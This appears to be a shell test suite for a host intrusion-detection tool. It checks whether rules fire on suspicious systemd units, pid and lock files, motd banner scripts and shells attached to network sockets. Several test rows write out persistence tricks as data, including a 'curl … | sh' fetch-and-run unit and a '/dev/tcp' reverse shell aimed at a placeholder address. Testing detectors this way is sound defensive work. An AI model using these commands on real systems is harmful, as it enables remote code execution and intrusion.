# SPDX-License-Identifier: GPL-2.0-or-later
# The rules on content and ancestry: what a file holds, what a unit runs, what
# descends from a banner script, a shell whose input is a connection. An act
# that writes in steps may alert at more than one of them, so `some` wants at
# least one alert of the rule that mentions the row, `none` wants none of any
# of these rules.
. /tocsin/tests/live/lib.sh
out=2001:db8::1
timer=$(rule_id systemd_timer_content) service=$(rule_id systemd_service_content)
pid=$(rule_id run_pid_lock_reboot_content) script=$(rule_id motd_script_changed)
below=$(rule_id motd_descendant_shell) socket=$(rule_id shell_on_socket)
motd=/etc/update-motd.d units=/etc/systemd/system

rows=()
declare -A wanted what
do_row() { # WANTED WHAT COMMANDS
	T=$(printf 'con%03dx' ${#rows[@]})
	rows+=("$T")
	wanted[$T]=$1 what[$T]=$2
	( cd $live; eval "$3" ) </dev/null >$live/out.$T 2>&1
}
some() { do_row "$@"; }
none() { do_row '' "$@"; }

alerts_of() { # TAG: ids of the rules whose alerts mention it
	jq -r --arg t "$1" --arg rules "$timer $service $pid $script $below $socket" '
		select(.rule.id as $id | $rules | split(" ") | index($id)) |
		select(tojson | contains($t)) | .rule.id' $alerts | sort -u
}
check_rows() {
	local t got
	for t in "${rows[@]}"; do
		[ -z "${wanted[$t]}" ] || wait_until 2 alerted $t
	done
	settle
	for t in "${rows[@]}"; do
		got=$(alerts_of $t | tr '\n' ' ')
		if [ "$got" = "${wanted[$t]:+${wanted[$t]} }" ]; then
			ok "content: ${what[$t]}: ${got:-none}"
		else
			not_ok "content: ${what[$t]}: got ${got:-none}" \
				"instead of ${wanted[$t]:-none}"
			cat $live/out.$t
		fi
	done
}
alerted() { [ "$(alerts_of "$1")" = "${wanted[$1]}" ]; }

unit() { # COMMAND…: a service that runs it
	printf '[Service]\n'
	printf 'ExecStart=%s\n' "$@"
}
timer_for() { printf '[Timer]\nOnBootSec=1min\nUnit=%s\n' "$1"; }
banner() { # NAME TEXT: a script made by the package manager, run as at login
	actor /usr/bin/dpkg
	printf '#!/bin/sh\n%s\n' "$2" >$live/$1
	chmod 755 $live/$1
	as /usr/bin/dpkg rename $live/$1 $motd/$1
	$motd/$1
}

mkdir -p $motd $units /run/deep
cp /usr/bin/dpkg $live/dpkg.real 2>/dev/null
cp --remove-destination "$act" $live/elf
chmod 644 $live/elf
: >$live/serving
ACT=$(words serve tcp :: 7001 300) ACT_LOG= "$act" >$live/serving &
wait_until 5 grep -q serving $live/serving
watch_start --record $trace

some $pid 'a program in a pid file' 'cp $live/elf /run/$T.pid'
some $pid 'a program moved there' 'cp $live/elf $live/$T; mv $live/$T /run/$T.lock'
some $pid 'a program linked there' 'mkdir /run/$T; cp $live/elf /run/$T/x; ln /run/$T/x /run/$T/x.reboot'
some $pid 'a script in a lock file' 'printf "#!/bin/sh\n" >/run/deep/$T.lock'
some $pid 'random bytes in a reboot file' 'head -c 4096 /dev/urandom >/var/run/$T.reboot'
some $pid 'a word in a pid file' 'echo hello >/run/$T.pid'
some $pid 'an executable pid file' 'echo 4242 >/run/$T.pid; chmod 755 /run/$T.pid'
some $pid 'a pid file that becomes something else' 'echo 4242 >/run/$T.pid; sleep 0.1; echo payload >/run/$T.pid'
none 'a pid in a pid file' 'echo $BASHPID >/run/$T.pid'
none 'an empty one' ': >/run/$T.pid; : >/run/$T.lock'
none 'an empty one, written later' ': >/run/$T.pid; sleep 0.1; echo 4242 >/run/$T.pid'
none 'text in a lock file' 'echo held by somebody >/run/$T.lock'
none 'a few random bytes in a lock file' 'head -c 60 /dev/urandom >/run/$T.lock'
none 'a program elsewhere' 'mkdir -p /srv/x; cp $live/elf /srv/x/$T.pid'
none 'a folder with such a name' 'mkdir /run/$T.lock'
none 'sendmail writes two lines' 'mkdir -p /run/sendmail/mta; printf "42\nsendmail -bd\n" >/run/sendmail/mta/$T.pid'

some $service 'a service that runs from /tmp' 'unit /tmp/x >$units/$T.service'
some $service 'the second command of a service' 'unit /usr/bin/true "/bin/sh -c \"curl -s http://[2001:db8::1]/ | sh\"" >$units/$T.service'
some $service 'a service moved there' 'unit "/bin/bash -c \"bash -i >& /dev/tcp/2001:db8::1/1 0>&1\"" >$live/$T; mv $live/$T $units/$T.service'
some $service 'a hidden program' 'unit /usr/lib/.x/$T >$units/$T.service'
some $service 'a drop-in' 'mkdir $units/$T.service.d; sleep 0.1; unit /dev/shm/x >$units/$T.service.d/a.conf'
some $service 'of a user' 'mkdir -p /root/.config/systemd/user; sleep 0.2; unit /var/tmp/x >/root/.config/systemd/user/$T.service'
none 'an ordinary service' 'unit "/usr/sbin/daemon --cache /tmp/x" >$units/$T.service'
none 'a service that fetches and does not run' 'unit "/usr/bin/curl -s http://[2001:db8::1]/" >$units/$T.service'
none 'elsewhere' 'unit /tmp/x >$live/$T.service'
unit /tmp/x >/usr/lib/systemd/system/evil-job.service
unit /usr/bin/true >/usr/lib/systemd/system/good-job.service
sleep 0.2
some $timer 'a timer for a service in /tmp' 'timer_for evil-job.service >$units/$T.timer'
none 'a timer for an ordinary service' 'timer_for good-job.service >$units/$T.timer'
none 'a timer without a service' 'timer_for $T.service >$units/$T.timer'

some $script 'a new banner script' 'echo "#!/bin/sh" >$motd/$T'
some $script 'made executable' 'actor /usr/bin/dpkg; as /usr/bin/dpkg create $motd/$T x; chmod 755 $motd/$T'
none 'an editor'"'"'s swap file' 'echo x >$motd/.$T.swp'
none 'by the package manager' 'as /usr/bin/dpkg create $motd/$T x'
none 'removed' 'as /usr/bin/dpkg create $motd/$T x; rm $motd/$T'

some $below 'an interactive shell two generations down' 'banner $T "bash -c \"bash -i -c : $T; :\""'
some $below 'a socket of bash, detached' 'banner $T "nohup setsid bash -c \"exec 3<>/dev/tcp/$out/7001\" $T >/dev/null 2>&1"'
some $below 'a program in /tmp' 'cp /bin/true /tmp/$T; banner $T "/tmp/$T --quiet"'
none 'a banner that prints' 'banner $T "uname -snrvm; sh -c \"cat /etc/os-release\""'
none 'the same shell below another script' 'printf "#!/bin/sh\nbash -c \"bash -i -c : $T; :\"\n" >$live/$T.sh; sh $live/$T.sh'

some $socket 'a shell that reads from a connection' 'exec 3<>/dev/tcp/$out/7001; bash -c : $T <&3'
some $socket 'a link of another name to a shell' 'ln -s /bin/bash $bin/$T; exec 3<>/dev/tcp/$out/7001; $bin/$T -c : >&3'
none 'a shell beside a connection' 'exec 3<>/dev/tcp/$out/7001; bash -c : $T 3<&-'
none 'another program on a connection' 'exec 3<>/dev/tcp/$out/7001; head -c 0 $T <&3'
none 'a shell on a local socket' 'jq -n 1 | bash -c : $T'
some $pid 'the last' 'cp $live/elf /run/$T.pid'


# A package with all that the rules look at: none of any rule may alert when
# dpkg installs it, upgrades it (conffile and units replaced) and removes it.
package() { # NAME VERSION
	local d=$live/$1-$2
	mkdir -p $d/DEBIAN $d/usr/lib/systemd/system $d$motd
	printf '%s\n' "Package: $1" "Version: $2" 'Architecture: all' \
		'Maintainer: nobody <nobody@example.org>' \
		'Description: a daemon with a timer and a banner' \
		>$d/DEBIAN/control
	echo $motd/50-$1 >$d/DEBIAN/conffiles
	# As daemons' maintainer scripts do: start it, note its number.
	printf '#!/bin/sh\nset -e\n%s\n' "echo \$\$ >/run/$1.pid; : $2" \
		>$d/DEBIAN/postinst
	printf '#!/bin/sh\nrm -f %s\n' "/run/$1.pid" >$d/DEBIAN/prerm
	unit "/usr/bin/true $2" >$d/usr/lib/systemd/system/$1.service
	timer_for $1.service >$d/usr/lib/systemd/system/$1.timer
	printf '#!/bin/sh\nuname -snrvm; : %s\n' $2 >$d$motd/50-$1
	chmod 755 $d/DEBIAN/p* $d$motd/50-$1
	dpkg-deb --root-owner-group --build $d $live/$1-$2.deb
}
install_all() {
	mkdir -p /var/lib/dpkg/{info,updates,triggers}
	: >/var/lib/dpkg/status
	: >/var/lib/dpkg/available
	# Back to the real one from what acted under its name.
	rm -f /usr/bin/dpkg
	cp $live/dpkg.real /usr/bin/dpkg
	package $1 1 && package $1 2 && dpkg -i $live/$1-1.deb &&
		grep -q . /run/$1.pid && dpkg -i $live/$1-2.deb &&
		$motd/50-$1 && dpkg -r $1 && dpkg -P $1
}
T=ordinary
if [ -e $live/dpkg.real ]; then
	install_all $T >$live/out.$T 2>&1 && said=yes || said=no
	is 'content: a package is installed, upgraded, removed' same $said yes
	[ $said = yes ] || cat $live/out.$T
else
	skip 'content: no dpkg here to install a package with'
fi

check_rows
is 'content: and no rule of any kind alerts at that' same \
	"$(jq -r 'select(tojson | contains("ordinary")) | .rule.id' $alerts)" ''
